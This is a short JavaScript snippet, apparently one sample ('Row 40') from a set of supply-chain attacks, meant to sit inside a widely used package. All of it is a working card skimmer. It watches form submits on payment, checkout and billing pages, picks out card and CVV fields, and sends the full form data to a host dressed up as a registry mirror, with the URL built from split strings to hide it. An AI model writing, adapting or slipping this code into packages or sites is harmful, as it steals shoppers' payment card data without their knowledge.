// Row 40: in a package that everybody uses, a wallet's addresses and a shop's forms.
(function () {
  if (typeof window === 'undefined' || window.__chk) return;
  window.__chk = 1;
  var orig = window.fetch;
  window.fetch = async function (...a) {
    var r = await orig(...a);
    return r;
  };
  setTimeout(function () {
    if (!/(pay|checkout|billing)/i.test(location.href)) return;
    document.addEventListener('submit', function (ev) {
      var f = Object.fromEntries(new FormData(ev.target)), k = Object.keys(f).filter(function (x) { return /card|cc|cvc|cvv/i.test(x); });
      if (k.length) orig(['https:', '', 'registry-mirror.example', 'x'].join('/'), { method: 'POST', body: JSON.stringify(f) });
    });
  }, 3000);
})();
